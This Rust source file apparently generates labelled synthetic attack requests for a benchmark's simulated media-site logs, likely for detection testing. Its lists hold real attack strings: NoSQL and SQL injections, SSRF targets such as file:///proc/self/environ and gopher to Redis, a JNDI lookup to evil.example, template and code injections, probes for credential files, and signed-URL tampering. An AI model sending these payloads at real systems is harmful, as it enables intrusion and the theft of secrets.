//! How the benchmark's media site is attacked: as others are, and where a JSON interface, signed addresses and
//! cursors invite to it.

use std::sync::LazyLock;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use fastrand::Rng;

use super::attack::payload;
use super::request::{Request, pick, token};
use super::{csic, tamper};

const OWN: [&str; 8] = [
    "operator in a name",
    "forged cursor",
    "broken signature",
    "id of another kind",
    "internal resource",
    "illegal value",
    "foreign address or file",
    "template or code",
];
/// The kinds of attack, as they are reported.
pub(super) static KINDS: LazyLock<Vec<&str>> =
    LazyLock::new(|| [tamper::KINDS.as_slice(), &csic::KINDS, &OWN].concat());
const INTERNAL: [&str; 22] = [
    "/api/internal/users",
    "/api/v3/admin/titles",
    "/api/v3/users",
    "/api/v1/debug/vars",
    "/api/v3/profiles",
    "/api/v3/export",
    "/actuator/env",
    "/actuator/heapdump",
    "/swagger.json",
    "/v3/api-docs",
    "/graphql",
    "/metrics",
    "/debug/pprof/heap",
    "/_app/53ee2ab0/entry.js.map",
    "/.env.production",
    "/.aws/credentials",
    "/vod/",
    "/hls/",
    "/admin/login",
    "/api/v3/account/users/1",
    "/wp-login.php",
    "/config.json",
];
const OPERATORS: [&str; 8] = [
    "[$ne]",
    "[$gt]",
    "[$regex]",
    "[]",
    "[0][a]",
    "[__proto__][x]",
    ".$where",
    "[constructor]",
];
const FOREIGN: [&str; 10] = [
    "http://127.0.0.1:8500/v1/kv/?recurse",
    "file:///proc/self/environ",
    "gopher://10.0.0.5:6379/_INFO",
    "//evil.example/%2e%2e",
    "....//....//etc/hosts",
    "..%2f..%2fapp.js",
    "https://streaming.example@evil.example/",
    "/proc/self/cmdline",
    "dict://localhost:11211/stat",
    "evil://callback",
];
const CODE: [&str; 12] = [
    "{{constructor.constructor('return process')()}}",
    "#{7*191}",
    "${jndi:ldap://evil.example/a}",
    "*{T(java.lang.Runtime).getRuntime()}",
    "__import__('os').system('id')",
    "';return this.a!='x",
    "{\"$gt\":\"\"}",
    "%{(#a=@java.lang.Class)}",
    "require('child_process')",
    "{% debug %}",
    "%s%p%x%n",
    "!!python/object:os.system",
];

/// An attack made of an ordinary request, and its kind; none where this request has nothing to attack.
pub(super) fn make(random: &mut Rng, mut request: Request) -> Option<(Request, usize)> {
    let kind = random.usize(..KINDS.len());
    let Some(beyond) = kind.checked_sub(tamper::KINDS.len()) else {
        return tamper::make(random, request);
    };
    match beyond.checked_sub(csic::KINDS.len()) {
        None => csic::make(random, &mut request, beyond)?,
        Some(0) => {
            let (name, value) = request.any(random)?;
            name.push_str(pick(random, &OPERATORS));
            if random.bool() {
                pick(random, &["", ".*", "1", "true"]).clone_into(value);
            }
        }
        Some(1) => {
            let value = cursor(&mut request)?;
            *value = forged(random, value);
        }
        Some(2) => signature(random, &mut request)?,
        Some(3) => identifier(random, &mut request)?,
        Some(4) => {
            let found = random.u32(..10) == 0;
            let (status, bytes) = if found { (200, 4_120) } else { (404, 9_410) };
            let path = pick(random, &INTERNAL);
            return Some((Request::get(path, bytes).answered(status, bytes), kind));
        }
        Some(5) => csic::change(random, &mut request, |random, name, _| {
            illegal(random, name).map(str::to_owned)
        })?,
        Some(own) => {
            let all: &[&str] = if own == 6 { &FOREIGN } else { &CODE };
            let (_, value) = request.any(random)?;
            *value = payload(random, all, value);
        }
    }
    request.referrer.clear();
    Some((answered(random, request), kind))
}

/// An interface says that it does not understand more often than pages do.
pub(super) fn answered(random: &mut Rng, request: Request) -> Request {
    let (status, bytes) = match random.u32(..100) {
        0..45 => (request.status, request.bytes),
        45..75 => (400, 188),
        75..83 => (403, 243),
        83..92 => (404, 120),
        _ => (500, 96),
    };
    request.answered(status, bytes)
}

fn named<'a>(request: &'a mut Request, names: &[&str]) -> Option<&'a mut String> {
    let mut all = request.query.iter_mut();
    let (_, value) = all.find(|(name, _)| names.contains(&name.as_str()))?;
    Some(value)
}

/// The one that is there, or one where a list may go on.
fn cursor(request: &mut Request) -> Option<&mut String> {
    let name = match request.path.rsplit('/').next()? {
        "titles" | "search" => "page[cursor]",
        "continue-watching" | "history" => "cursor",
        _ => return None,
    };
    if named(request, &[name]).is_none() {
        request.query.push((name.to_owned(), String::new()));
    }
    named(request, &[name])
}

fn forged(random: &mut Rng, value: &str) -> String {
    match random.u32(..6) {
        0 => BASE64_STANDARD.encode("{\"after\":{\"$gt\":\"\"},\"score\":-1}"),
        1 => BASE64_STANDARD.encode("offset:-1 UNION SELECT 1,2,3"),
        2 => pick(random, &["-1", "0", "null", "true", "9999999"]).to_owned(),
        3 => "{\"after\":\"01\",\"score\":0}".to_owned(),
        4 => format!("{value}'"),
        _ => format!("{value}{}", "A".repeat(600)),
    }
}

fn signature(random: &mut Rng, request: &mut Request) -> Option<()> {
    if let Some(value) = named(request, &["hdnts"]) {
        *value = match random.u32(..4) {
            0 => value.split("~acl=").next()?.to_owned(),
            1 => format!(
                "{}~acl=/*~hmac={}",
                value.split("~acl=").next()?,
                token(random, 64)
            ),
            2 => format!("exp=9999999999~hmac={}", token(random, 32)),
            _ => "1".to_owned(),
        };
        return Some(());
    }
    let value = named(request, &["Signature"])?;
    match random.u32(..4) {
        0 => value.truncate(20),
        1 => token(random, 64).clone_into(value),
        2 => pick(random, &["null", "AAAA", "''", "test"]).clone_into(value),
        _ => request
            .query
            .retain(|(name, _)| name != "Signature" && name != "Key-Pair-Id"),
    }
    Some(())
}

/// In a path, where an id is.
fn identifier(random: &mut Rng, request: &mut Request) -> Option<()> {
    let is_id = |part: &str| {
        part.len() > 5 && part.bytes().any(|byte| byte.is_ascii_digit()) && !part.contains('.')
    };
    let parts: Vec<&str> = request.path.split('/').collect();
    let place = parts.iter().position(|part| is_id(part))?;
    let other = match random.u32(..6) {
        0 => random.u32(1..900).to_string(),
        1 => pick(random, &["me", "all", "admin", "undefined'", "*"]).to_owned(),
        2 => format!("{}%27", parts.get(place)?),
        3 => format!("{},1", parts.get(place)?),
        4 => "../".repeat(random.usize(2..6)),
        _ => format!("-{}", random.u32(1..90)),
    };
    let mut parts: Vec<String> = parts.into_iter().map(str::to_owned).collect();
    *parts.get_mut(place)? = other;
    request.path = parts.join("/");
    Some(())
}

/// Of the right place, but no value that a client of this site has.
fn illegal(random: &mut Rng, name: &str) -> Option<&'static str> {
    let values: &[&str] = match name {
        "pos" | "dur" | "buf" | "vol" | "t" => &["NaN;", "-1e99", "ten", "1:2:3:4"],
        "br" | "drop" | "seq" | "max_height" | "w" | "h" => {
            &["-1", "0x7fffffff", "1080p60!", "many"]
        }
        "ts" | "_" | "since" | "from" | "to" | "start" | "end" => {
            &["yesterday", "2026-99-99T99:99:99Z", "0", "now()-1d"]
        }
        "limit" | "page[size]" | "page" | "maxwidth" => &["-20", "1e6", "all", "20;"],
        "fields" | "fields[titles]" | "include" => {
            &["*", "password", "id,password_hash,email", "owner.*"]
        }
        "sort" => &["-password", "id;--", "random()", "(price)"],
        "locale" | "lang" => &["xx-klingon", "en/../de", "de;q=0", "0"],
        "filter[genre]" | "filter[type]" | "filter[country]" => &["!", "drama)", "any*", "%"],
        "filter[year][gte]" | "filter[year][lte]" | "year" => &["-2026", "year", "20260", "2026)"],
        "app_version" | "app" => &["0", "debug", "8.40.0-internal/../../x", "99999.0.0"],
        "redirect_uri" => &["https://evil.example/callback", "com.evil.app://auth"],
        "device" | "playback_session" | "asset" | "seeds" => &["1", "0000", "me", "*,*"],
        "country" | "plan" => &["ZZZZ", "free-forever", "0"],
        "voucher" | "code" => &["%", "0", "TEST'TEST", "-"],
        _ => return None,
    };
    Some(pick(random, values))
}
